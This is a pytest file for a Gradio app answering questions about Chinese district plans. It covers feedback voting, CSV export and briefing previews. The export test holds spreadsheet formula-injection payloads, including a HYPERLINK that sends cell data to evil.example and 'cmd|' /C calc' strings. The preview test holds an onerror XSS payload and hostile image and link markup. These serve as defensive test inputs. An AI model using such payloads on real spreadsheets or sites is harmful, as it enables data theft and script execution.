"""Votes, exports and previews: one vote per answer per session, CSV cells that cannot run as formulas, a
briefing preview without images, briefing files that do not pile up."""

from __future__ import annotations

import csv
import re
import sqlite3
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path
from typing import Any

import gradio as gr
import pytest

from qa.chain import QAChain
from qa.settings import Settings
from qa.types import Answer, Chunk, Citation
from tests.ui_index import plans_chain
from ui.app import DOWNLOAD_CACHE, create
from ui.brief import Brief, DistrictBrief, Point, brief_markdown
from ui.chat import ChatService
from ui.downloads import DownloadFolders
from ui.feedback import COLUMNS, FeedbackStore, spreadsheet_safe
from ui.limits import RateLimiter
from ui.render import Turn, brief_preview_html

GDP = "从化区2020年的地区生产总值是多少？"
IMAGE = "![x](https://evil.example/p.png)"
LINK = "[点此](https://evil.example/login)"


class Clock:
    """A clock the test moves by hand."""

    def __init__(self, now: float = 1000.0) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory) -> QAChain:
    return plans_chain(tmp_path_factory.getbasetemp() / "ui-index")


@pytest.fixture
def store(tmp_path: Path) -> FeedbackStore:
    return FeedbackStore(tmp_path / "feedback.sqlite3")


def answered(question: str = GDP) -> Turn:
    chunk = Chunk("c", "conghua", "规划", "从化区", ("第一章",), 1, 1, 0, 4, "正文内容", "正文内容", "")
    answer = Answer(question, "正文内容[1]", False, "extractive", (Citation(1, chunk, "正文内容"),))
    return Turn(question, answer, "conghua")


def votes(store: FeedbackStore) -> list[tuple[Any, ...]]:
    with sqlite3.connect(store.path) as conn:
        return conn.execute("SELECT id, vote, comment, session FROM feedback ORDER BY id").fetchall()


def test_one_vote_per_answer_per_session_which_a_later_click_replaces(
    chain: QAChain, store: FeedbackStore
) -> None:
    service = ChatService(chain, store, RateLimiter(per_minute=10))
    turns = [answered(), answered("另一个问题")]
    row = service.vote(turns, 1, True, "s1")
    assert service.vote(turns, 1, True, "s1") == row  # a second 👍 replaces the first
    assert service.vote(turns, 1, False, "s1") == row  # 👎 after 👍 replaces it
    assert service.comment(row, "数字不对")
    assert votes(store) == [(row, -1, "数字不对", "s1")]  # the comment is on that one row
    other = service.vote(turns, 3, True, "s1")  # another answer, another row
    assert other != row and service.vote(turns, 1, True, "s2") not in {row, other}  # another session
    assert len(votes(store)) == 3
    for i in range(20):  # 20 clicks on 👍: the page sends like, then "" (clicked off), in turn
        service.vote(turns, 3, None if i % 2 else True, "s3")
    assert [v for v in votes(store) if v[3] == "s3"] == []  # ends clicked off, as on the page


def test_votes_arriving_together_still_make_one_row(chain: QAChain, store: FeedbackStore) -> None:
    service = ChatService(chain, store, RateLimiter(per_minute=10))
    turns = [answered()]
    with ThreadPoolExecutor(8) as pool:
        rows = set(pool.map(lambda i: service.vote(turns, 1, i % 2 == 0, "s"), range(16)))
    assert len(rows) == 1 and len(votes(store)) == 1


def test_a_feedback_file_from_before_takes_one_vote_rows_and_keeps_its_votes(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    with sqlite3.connect(path) as conn:
        conn.execute(
            "CREATE TABLE feedback (id INTEGER PRIMARY KEY AUTOINCREMENT, created TEXT NOT NULL, vote INTEGER"
            " NOT NULL, comment TEXT NOT NULL DEFAULT '', question TEXT NOT NULL, answer TEXT NOT NULL,"
            " citations TEXT NOT NULL, backend TEXT NOT NULL, district TEXT NOT NULL DEFAULT '')"
        )
        conn.execute("INSERT INTO feedback VALUES (1, 't', 1, '', 'q', 'a', '[]', 'extractive', '')")
    conn.close()
    store = FeedbackStore(path)
    turn = answered()
    assert store.record(turn.answer, True, session="s", key=turn.key) == store.record(
        turn.answer, False, session="s", key=turn.key
    )
    assert [r[2] for r in store.rows()] == [1, -1]  # the old vote, then the one replaced in place


def test_exported_cells_cannot_run_as_spreadsheet_formulas(store: FeedbackStore, tmp_path: Path) -> None:
    hostile = {
        '=HYPERLINK("https://evil.example/?d="&A1,"点我")': "\t=1+1",
        "+1+cmd|' /C calc'!A0": "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0": "\r=1+1",
        "  荔湾区有哪些历史文化街区？ ": "希望补充 - 号后的内容",
    }
    for question, comment in hostile.items():
        store.record(answered(question).answer, False, comment=comment)
    out = tmp_path / "feedback.csv"
    store.export_csv(out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(COLUMNS)
    assert [(r["question"], r["comment"]) for r in rows] == [
        ('\'=HYPERLINK("https://evil.example/?d="&A1,"点我")', "'=1+1"),
        ("'+1+cmd|' /C calc'!A0", "'-2+3"),
        ("'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1"),
        ("荔湾区有哪些历史文化街区？", "希望补充 - 号后的内容"),
    ]
    assert {r["vote"] for r in rows} == {"-1"}  # numbers are not text cells
    assert spreadsheet_safe(" \t=1+1") == "'=1+1" and spreadsheet_safe(-1) == -1


def evil_brief() -> Brief:
    """A briefing whose plan text carries an image, a link and HTML, as a hostile document would."""
    text = f"加强生态环境保护{IMAGE}，详见{LINK}<img src=x onerror=alert(1)>。"
    chunk = Chunk("c", "liwan", "荔湾规划", "荔湾区", ("第一章", IMAGE), 3, 3, 0, len(text), text, text, "")
    point = Point(text, chunk, 3)
    part = DistrictBrief("liwan", "荔湾区", "荔湾规划", (point,), (), (point,), (IMAGE,))
    return Brief("生态环境保护", "zh-Hans", date(2026, 1, 1), (part,))


def test_the_briefing_preview_shows_plan_text_as_text() -> None:
    html = brief_preview_html(brief_markdown(evil_brief()))
    assert set(re.findall(r"<(\w+)", html)) <= {"h1", "h2", "h3", "p", "ul", "li", "blockquote", "br", "sup"}
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and IMAGE in html and LINK in html
    assert "<h1>简报：生态环境保护</h1>" in html and "<h3>要点</h3>" in html and "<li>" in html
    assert "<blockquote>" in html and "<sup>[1]</sup>" in html and '<p class="note"><sup>[1]</sup>' in html


def test_the_page_previews_the_draft_through_that_html(chain: QAChain, tmp_path: Path) -> None:
    demo = create(chain, Settings(feedback_db=tmp_path / "f.sqlite3"), warm_up=False)
    preview = next(b for b in demo.blocks.values() if getattr(b, "elem_id", None) == "brief-preview")
    assert isinstance(preview, gr.HTML)  # gr.Markdown would turn a quoted ![](…) into an image
    (render,) = [f for f in demo.fns.values() if preview in f.outputs]
    assert render.fn is not None and "<img" not in render.fn(f"> {IMAGE}")
    assert demo.delete_cache == DOWNLOAD_CACHE  # Gradio's copies of the downloads go on a timer


def test_briefing_download_folders_are_removed_once_old() -> None:
    clock = Clock(time.time())
    folders = DownloadFolders(max_age=600, clock=clock)
    first = folders.new()
    (first / "简报.md").write_text("# 简报", encoding="utf-8")
    second = folders.new()
    assert first.exists() and second.exists()
    clock.now += 601
    third = folders.new()
    assert not first.exists() and not second.exists() and third.exists()
    folders.close()
    assert not folders.root.exists()

